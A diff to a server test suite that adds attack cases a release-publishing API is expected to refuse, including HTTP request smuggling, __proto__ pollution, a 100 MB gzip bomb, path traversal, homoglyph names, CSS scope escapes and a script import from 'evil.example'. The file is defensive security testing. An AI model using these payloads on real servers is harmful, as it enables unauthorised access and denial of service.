@@ -1,5 +1,8 @@
 import { randomBytes } from 'node:crypto';
+import { type AddressInfo, connect } from 'node:net';
 import { Readable, Writable } from 'node:stream';
+import { text } from 'node:stream/consumers';
+import { gzipSync } from 'node:zlib';
 import { API_PREFIX } from '@kickabout/contract';
 import { digestOf } from '@kickabout/releases';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -277,7 +280,57 @@ const ATTACKS: Attack[] = [
     says: /Only an admin/,
   },
 
+  {
+    what: 'two keys in one header',
+    try: () => sendRelease(next(), { as: `${keys.other}, Bearer ${keys.good}` }),
+    status: 401,
+    code: 'not_signed_in',
+    says: /log in/,
+  },
+  {
+    what: 'a key in the address',
+    try: () => sendRelease(next(), { as: '', path: `/remotes/mf-kit/releases/r2?access_token=${keys.good}` }),
+    status: 401,
+    code: 'not_signed_in',
+    says: /log in/,
+  },
+  {
+    what: 'another method in a header',
+    try: () =>
+      send('POST', '/remotes/mf-kit/live', { headers: { 'x-http-method-override': 'PUT' }, body: {} }),
+    status: 405,
+    code: 'method_not_allowed',
+    says: /./,
+  },
+  {
+    what: 'a revoked key that makes another link to what it published',
+    try: () => send('PUT', '/remotes/mf-kit/releases/r1/preview', { as: keys.revoked }),
+    status: 401,
+    code: 'publish_key_invalid',
+    says: /was revoked/,
+  },
+  {
+    what: 'the key of another remote that withdraws',
+    try: () => send('POST', '/remotes/mf-kit/withdrawal', { as: keys.other, body: { release: 'r1' } }),
+    status: 403,
+    code: 'publish_key_elsewhere',
+    says: /is for mf-other/,
+  },
+  {
+    what: 'a key that grants itself a page',
+    try: () =>
+      send('PUT', '/remotes/mf-kit/grants', { body: { kind: 'path', value: '/matches', is_granted: true } }),
+    status: 401,
+    code: 'not_signed_in',
+    says: /log in/,
+  },
+
   // names and addresses
+  invalid(
+    'a name with a letter that looks like another',
+    () => sendRelease(next(), { as: admin.token, path: '/remotes/mf-k%C4%B1t/releases/r2' }),
+    /^name must be a name like mf-something/,
+  ),
   {
     what: 'a key for a name with slashes',
     try: () => sendRelease(next(), { path: '/remotes/mf-kit%2F..%2Fmf-other/releases/r2' }),
@@ -338,6 +391,16 @@ const ATTACKS: Attack[] = [
   invalid('a path with backslashes', () => withFilePath('..\\index.js'), /^files\.3\.path must be/),
   invalid('a path with a percent sign', () => withFilePath('%2e%2e/index.js'), /^files\.3\.path must be/),
   invalid('a path with NUL', () => withFilePath('a.js\0.png'), /^files\.3\.path must not contain/),
+  invalid(
+    'a sign that is k in small letters',
+    () => withFilePath('\u212Ait-screen.css'),
+    /^files\.3\.path must be/,
+  ),
+  refused(
+    'a style whose kind is in capitals',
+    () => withFile('a.CSS', 'header{display:none}'),
+    /not be a\.CSS/,
+  ),
   invalid('a hidden file', () => withFilePath('.htaccess'), /^files\.3\.path must be/),
   invalid(
     'a symbolic link',
@@ -403,6 +466,31 @@ const ATTACKS: Attack[] = [
     () => next({ contents: { 'a.js': ' '.repeat(1_500_000), 'b.js': ' '.repeat(1_500_000) } }),
     /files must have at most 2000000 bytes of scripts and styles/,
   ),
+
+  {
+    what: 'a prototype in the description',
+    try: () => {
+      const text = JSON.stringify({ ...describeRelease(next()), stage: 'everyone' });
+      return send('PUT', '/remotes/mf-kit/releases/r2', {
+        body: text.replace('{', '{"__proto__":{"isAdmin":true},'),
+        headers: { 'content-type': 'application/json' },
+      });
+    },
+    status: 400,
+    code: 'malformed_request',
+    says: /couldn’t be read/,
+  },
+  {
+    what: 'a compressed description of a hundred megabytes',
+    try: () =>
+      send('PUT', '/remotes/mf-kit/releases/r2', {
+        body: gzipSync(Buffer.alloc(100_000_000, ' ')) as never,
+        headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
+      }),
+    status: 413,
+    code: 'payload_too_large',
+    says: /too large/,
+  },
 
   // uploads
   {
@@ -515,6 +603,28 @@ const ATTACKS: Attack[] = [
     /manifest\.routes\.0\.path is \/login, which belongs to the shell/,
   ),
   refused('the login page in capitals', () => withPath('/LogIn/'), /which belongs to the shell/),
+  invalid(
+    'a path that climbs to the login page',
+    () => sendRelease(withPath('/mf-kit/../login')),
+    /path must be a path such as/,
+  ),
+  invalid(
+    'a path of another remote with two slashes',
+    () => sendRelease(withPath('/mf-other//:id')),
+    /path must be a path such as/,
+  ),
+  refused(
+    'a screen with a name that every object has',
+    () => next({ routes: [{ path: '/mf-kit', access: 'everyone', title: 'Kit', screen: 'constructor' }] }),
+    /manifest\.routes\.0\.screen is constructor, which manifest\.files doesn’t have/,
+  ),
+  {
+    what: 'a link to a release that waits',
+    try: () => send('PUT', '/remotes/mf-kit/releases/waiting/preview'),
+    status: 409,
+    code: 'claims_waiting',
+    says: /until an admin has approved/,
+  },
   refused('home', () => withPath('/'), /which belongs to the shell/),
   refused('an address of the API', () => withPath('/api/v1/players'), /which the server needs/),
   refused('an address of files', () => withPath('/remotes.json'), /which the server needs/),
@@ -573,6 +683,16 @@ const ATTACKS: Attack[] = [
     () => next({ needs: { leftpad: '^1.0.0' } }),
     /leftpad \^1\.0\.0, which it doesn’t have/,
   ),
+  refused(
+    'a shared module with a name that every object has',
+    () => next({ needs: { constructor: '^1.0.0' } }),
+    /constructor \^1\.0\.0, which it doesn’t have/,
+  ),
+  refusedInside(
+    'an entry that imports the live file of another remote',
+    next({ contents: { 'a.js': 'import("/remotes/mf-other/r1/kit-screen.r1.js")' } }),
+    /a\.js loads \/remotes\/mf-other/,
+  ),
   refusedInside(
     'a chunk that fetches foreign code',
     next({ contents: { 'a.js': 'const load=()=>import("https://evil.example/a.js")' } }),
@@ -604,6 +724,26 @@ const ATTACKS: Attack[] = [
     /its styles reach outside it: @import/,
   ),
   refusedInside(
+    'styles in a layer of the shell',
+    next({ contents: { 'a.css': '@layer components{.mf-kit-a,header{display:none}}' } }),
+    /its styles reach outside it: header/,
+  ),
+  refusedInside(
+    'a nested rule that leaves its own',
+    next({ contents: { 'a.css': '.mf-kit-a{body:has(&) header{display:none}}' } }),
+    /its styles reach outside it: body:has\(&\) header/,
+  ),
+  refusedInside(
+    'an animation, a property and a font with the names of the shell’s',
+    next({
+      contents: {
+        'a.css':
+          '@keyframes pulse{to{opacity:0}}@property --color-ink{syntax:"*";inherits:true}@font-face{font-family:"Inter";src:url(a.woff2)}',
+      },
+    }),
+    /@keyframes pulse ; @property --color-ink ; @font-face "Inter"/,
+  ),
+  refusedInside(
     'too many bytes',
     next({ contents: { 'a.js': `/*${randomBytes(120_000).toString('base64')}*/` } }),
     /the limit is 60000/,
@@ -622,7 +762,28 @@ describe('an attack is refused with a sentence, changes nothing and is noted:', 
     expect(logged).toContain(`"res":{"status":${status}}`);
   });
 
-  it('there are enough of them', () => expect(ATTACKS.length).toBeGreaterThan(60));
+  it('there are enough of them', () => expect(ATTACKS.length).toBeGreaterThan(90));
+});
+
+it('requests that a proxy could read as others are refused, and change nothing', async () => {
+  await club.app.listen({ port: 0, host: '127.0.0.1' });
+  const { port } = club.app.server.address() as AddressInfo;
+  const before = await everything();
+  const statusOf = async (headers: readonly string[], body: string) => {
+    const socket = connect(port, '127.0.0.1');
+    const head = [`POST ${API_PREFIX}/remotes/mf-kit/rollback HTTP/1.1`, 'host: club', 'connection: close'];
+    socket.write(`${[...head, 'content-type: application/json', ...headers].join('\r\n')}\r\n\r\n${body}`);
+    return Number((await text(socket)).split(' ')[1]);
+  };
+  const as = (key: string) => `authorization: Bearer ${key}`;
+  const hidden = `0\r\n\r\nPOST ${API_PREFIX}/remotes/mf-kit/rollback HTTP/1.1\r\n${as(keys.good)}\r\n\r\n`;
+  expect(await statusOf([as(keys.other), as(keys.good), 'content-length: 2'], '{}')).toBe(403);
+  expect(await statusOf([as(keys.good), 'transfer-encoding: chunked', 'content-length: 5'], hidden)).toBe(
+    400,
+  );
+  expect(await statusOf([as(keys.good), 'content-length: 2', 'content-length: 5'], '{}xxx')).toBe(400);
+  expect(await statusOf([`${as(keys.good)}\n x: 1`, 'content-length: 2'], '{}')).toBe(400);
+  expect(await everything()).toEqual(before);
 });
 
 const refusals = async () =>
@@ -696,4 +857,27 @@ it('the same request again, as it was recorded, changes nothing, and nothing at 
   expect(await everything()).toEqual(before);
   await club.call('revokePublishKey', admin, { params: { name: 'mf-kit', keyId: key_id } });
   expect(await sendRelease(next(), { as: key })).toMatchObject({ status: 401, code: 'publish_key_invalid' });
+});
+
+it('of two different releases of one name that are sent at once, one goes live', async () => {
+  const sent = ['a', 'b'].map((letter) =>
+    publish(
+      club,
+      { token: keys.good },
+      makeRelease({ release: 'twin', contents: { 'a.js': `"${letter}"` } }),
+    ),
+  );
+  const states = (await Promise.all(sent)).map(({ body }) => body.code ?? body.state);
+  expect(states.toSorted()).toEqual(['live', 'release_changed']);
+});
+
+it('a picture with a script in it has no rights on the site', async () => {
+  const picture = '<svg xmlns="http://www.w3.org/2000/svg"><script href="/remotes/mf-kit/drawn/a.js"/></svg>';
+  await publish(
+    club,
+    { token: keys.good },
+    makeRelease({ release: 'drawn', contents: { 'a.svg': picture } }),
+  );
+  const { headers } = await club.app.inject('/remotes/mf-kit/drawn/a.svg');
+  expect(headers['content-security-policy']).toMatch(/default-src 'none'.*; sandbox$/);
 });
